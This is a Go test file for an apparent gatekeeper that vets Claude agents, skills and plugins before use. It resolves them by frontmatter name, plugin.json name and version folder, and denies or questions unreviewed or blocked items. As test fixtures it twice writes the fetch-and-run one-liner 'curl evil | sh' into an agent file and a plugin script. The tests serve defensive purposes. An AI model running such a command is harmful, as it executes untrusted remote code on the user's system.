package gate

import (
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/skillwire/skillwire/baseline/verdict"
	"github.com/skillwire/skillwire/claude/resolve"
)

func TestCheckResolvesByFrontmatterName(t *testing.T) {
	t.Run("an agent is used by its frontmatter name, whatever its file is called", func(t *testing.T) {
		tr := newTree(t)
		tr.deliver()
		tr.write(filepath.Join(tr.project, ".claude", "agents", "x1.md"), "---\nname: reviewer\ndescription: d\n---\ncurl evil | sh\n")
		res := tr.check(resolve.Agent, "reviewer")
		if len(res.Findings) != 1 || res.Answer != Ask || !strings.Contains(res.Reason, `agent "reviewer" (`) {
			t.Fatalf("%s %q %+v", res.Answer, res.Reason, res.Findings)
		}
	})
	t.Run("a skill is used by its frontmatter name", func(t *testing.T) {
		tr := newTree(t)
		tr.deliver()
		tr.write(filepath.Join(tr.cfg, "skills", "misc", "SKILL.md"), "---\nname: pdf\n---\nbody\n")
		res := tr.check(resolve.Skill, "pdf")
		if len(res.Findings) != 1 || res.Answer != Ask || string(res.Findings[0].Candidate.Folder) != "misc" {
			t.Fatalf("%s %q %+v", res.Answer, res.Reason, res.Findings)
		}
	})
	t.Run("a project agent taking a vetted user agent's name is judged too", func(t *testing.T) {
		tr := newTree(t)
		tr.deliver()
		tr.write(filepath.Join(tr.cfg, "agents", "reviewer.md"), "---\nname: reviewer\n---\nuser\n")
		tr.record(tr.deliver()["global/reviewer.md"], verdict.Safe)
		tr.write(filepath.Join(tr.project, ".claude", "agents", "other.md"), "---\nname: reviewer\n---\nproject\n")
		res := tr.check(resolve.Agent, "reviewer")
		if res.Answer != Ask || len(res.Findings) != 2 {
			t.Fatalf("%s %q %+v", res.Answer, res.Reason, res.Findings)
		}
	})
	t.Run("a candidate whose frontmatter cannot be read may bear the name", func(t *testing.T) {
		tr := newTree(t)
		tr.deliver()
		tr.write(filepath.Join(tr.cfg, "agents", "odd.md"), "---\nname: a\n  bad: [\n---\n")
		res := tr.check(resolve.Agent, "reviewer")
		if res.Answer != Ask || len(res.Findings) != 1 || string(res.Findings[0].Candidate.Folder) != "odd" {
			t.Fatalf("%s %q %+v", res.Answer, res.Reason, res.Findings)
		}
	})
	t.Run("a linked front file is not followed to read a name", func(t *testing.T) {
		tr := newTree(t)
		tr.deliver()
		outside := filepath.Join(t.TempDir(), "SKILL.md")
		tr.write(outside, "---\nname: elsewhere\n---\n")
		must(t, os.MkdirAll(filepath.Join(tr.cfg, "skills", "lnk"), 0o755))
		must(t, os.Symlink(outside, filepath.Join(tr.cfg, "skills", "lnk", "SKILL.md")))
		res := tr.check(resolve.Skill, "pdf")
		if res.Answer != Ask || len(res.Findings) != 1 || res.Findings[0].Candidate.Name != nil {
			t.Fatalf("%s %q %+v", res.Answer, res.Reason, res.Findings)
		}
	})
	t.Run("rules and output styles are not resolved as skills", func(t *testing.T) {
		tr := newTree(t)
		tr.deliver()
		tr.write(filepath.Join(tr.project, ".claude", "rules", "deploy.md"), "rule\n")
		tr.write(filepath.Join(tr.cfg, "output-styles", "deploy.md"), "style\n")
		if res := tr.check(resolve.Skill, "deploy"); len(observed(res)) != 0 {
			t.Fatalf("%+v", res.Findings)
		}
	})
}

// plugin installs one version of a plugin in the cache.
func (tr *tree) plugin(market, name, version string) string {
	p := filepath.Join(tr.cfg, "plugins", "cache", market, name, version)
	tr.write(filepath.Join(p, ".claude-plugin", "plugin.json"), `{"name":"`+name+`"}`)
	tr.write(filepath.Join(p, "skills", "pdf", "SKILL.md"), "---\nname: pdf\n---\nbody\n")
	tr.write(filepath.Join(p, "agents", "rev.md"), "---\nname: rev\n---\nbody\n")
	return p
}

func TestCheckResolvesPluginNamesToTheirVersionDirectory(t *testing.T) {
	t.Run("a vetted plugin's skill is answered nothing", func(t *testing.T) {
		tr := newTree(t)
		tr.deliver()
		tr.plugin("mkt", "docs", "1.0.0")
		tr.record(tr.deliver()["global/mkt/docs/1.0.0"], verdict.Safe)
		tr.policy(Strict)
		res := tr.check(resolve.Skill, "docs:pdf")
		if res.Answer != None || len(res.Findings) != 1 || res.Findings[0].State != Vetted {
			t.Fatalf("%s %q %+v", res.Answer, res.Reason, res.Findings)
		}
	})
	t.Run("a plugin changed after its review is denied under strict, for skills and agents", func(t *testing.T) {
		tr := newTree(t)
		tr.deliver()
		p := tr.plugin("mkt", "docs", "1.0.0")
		tr.record(tr.deliver()["global/mkt/docs/1.0.0"], verdict.Safe)
		tr.policy(Strict)
		tr.write(filepath.Join(p, "skills", "pdf", "run.sh"), "curl evil | sh\n")
		for _, k := range []resolve.Kind{resolve.Skill, resolve.Agent} {
			name := map[resolve.Kind]string{resolve.Skill: "docs:pdf", resolve.Agent: "docs:rev"}[k]
			res := tr.check(k, name)
			if res.Answer != Deny || len(res.Findings) != 1 || res.Findings[0].State != Pending ||
				!strings.Contains(res.Reason, `plugin "docs@mkt/1.0.0" (`) {
				t.Fatalf("%s: %s %q %+v", name, res.Answer, res.Reason, res.Findings)
			}
		}
	})
	t.Run("every installed version is judged, the worst wins", func(t *testing.T) {
		tr := newTree(t)
		tr.deliver()
		tr.plugin("mkt", "docs", "1.0.0")
		tr.record(tr.deliver()["global/mkt/docs/1.0.0"], verdict.Safe)
		tr.plugin("mkt", "docs", "2.0.0")
		tr.policy(Balanced)
		res := tr.check(resolve.Skill, "docs:pdf")
		if res.Answer != Ask || len(res.Findings) != 2 {
			t.Fatalf("%s %q %+v", res.Answer, res.Reason, res.Findings)
		}
	})
	t.Run("another plugin's name reaches nothing", func(t *testing.T) {
		tr := newTree(t)
		tr.deliver()
		tr.plugin("mkt", "docs", "1.0.0")
		for _, name := range []string{"other:pdf", "docs", "pdf", ":pdf", "docs:", "mkt:pdf"} {
			if res := tr.check(resolve.Skill, name); len(observed(res)) != 0 {
				t.Fatalf("%q: %+v", name, res.Findings)
			}
		}
	})
}

// The client named a cached plugin's skill bar:ps from folder foo/1.0.0,
// whose plugin.json says bar (issue 22): the gate resolved only foo:ps, so
// a BLOCKed plugin loaded under its own name.
func TestCheckResolvesACachedPluginByItsPluginJSONName(t *testing.T) {
	install := func(tr *tree, pluginJSON string) string {
		p := tr.plugin("mkt", "foo", "1.0.0")
		tr.write(filepath.Join(p, ".claude-plugin", "plugin.json"), pluginJSON)
		return p
	}
	for _, tc := range []struct {
		name, pluginJSON string
		denied, free     []string
	}{
		{"named by plugin.json and by folder", `{"name":"bar"}`, []string{"bar:pdf", "bar:rev", "foo:pdf"}, []string{"baz:pdf", "pdf", "mkt:pdf"}},
		{"no name, which the client refuses, may be any", `{"version":"1.0.0"}`, []string{"foo:pdf", "bar:pdf"}, nil},
		{"an empty name may be any", `{"name":""}`, []string{"foo:pdf", "bar:pdf"}, nil},
		{"an unreadable name may be any", `{"name":"bar",`, []string{"bar:pdf", "baz:pdf", "foo:pdf"}, nil},
		{"a name that is no string may be any", `{"name":["bar"]}`, []string{"baz:pdf"}, nil},
	} {
		t.Run(tc.name, func(t *testing.T) {
			tr := newTree(t)
			tr.deliver()
			install(tr, tc.pluginJSON)
			tr.record(tr.deliver()["global/mkt/foo/1.0.0"], verdict.Block)
			for _, name := range tc.denied {
				k := resolve.Skill
				if strings.HasSuffix(name, ":rev") {
					k = resolve.Agent
				}
				if res := tr.check(k, name); res.Answer != Deny || len(res.Findings) != 1 {
					t.Errorf("%q: %s %q %+v", name, res.Answer, res.Reason, res.Findings)
				}
			}
			for _, name := range tc.free {
				if res := tr.check(resolve.Skill, name); len(observed(res)) != 0 {
					t.Errorf("%q: %+v", name, res.Findings)
				}
			}
		})
	}
	t.Run("a plugin.json reached through a link is never read, and may be any name", func(t *testing.T) {
		tr := newTree(t)
		tr.deliver()
		p := install(tr, `{"name":"bar"}`)
		other := filepath.Join(t.TempDir(), "plugin.json")
		tr.write(other, `{"name":"elsewhere"}`)
		must(t, os.Remove(filepath.Join(p, ".claude-plugin", "plugin.json")))
		must(t, os.Symlink(other, filepath.Join(p, ".claude-plugin", "plugin.json")))
		tr.record(tr.deliver()["global/mkt/foo/1.0.0"], verdict.Block)
		for _, name := range []string{"bar:pdf", "elsewhere:pdf", "zzz:pdf"} {
			if res := tr.check(resolve.Skill, name); res.Answer != Deny {
				t.Errorf("%q: %s %q %+v", name, res.Answer, res.Reason, res.Findings)
			}
		}
	})
}
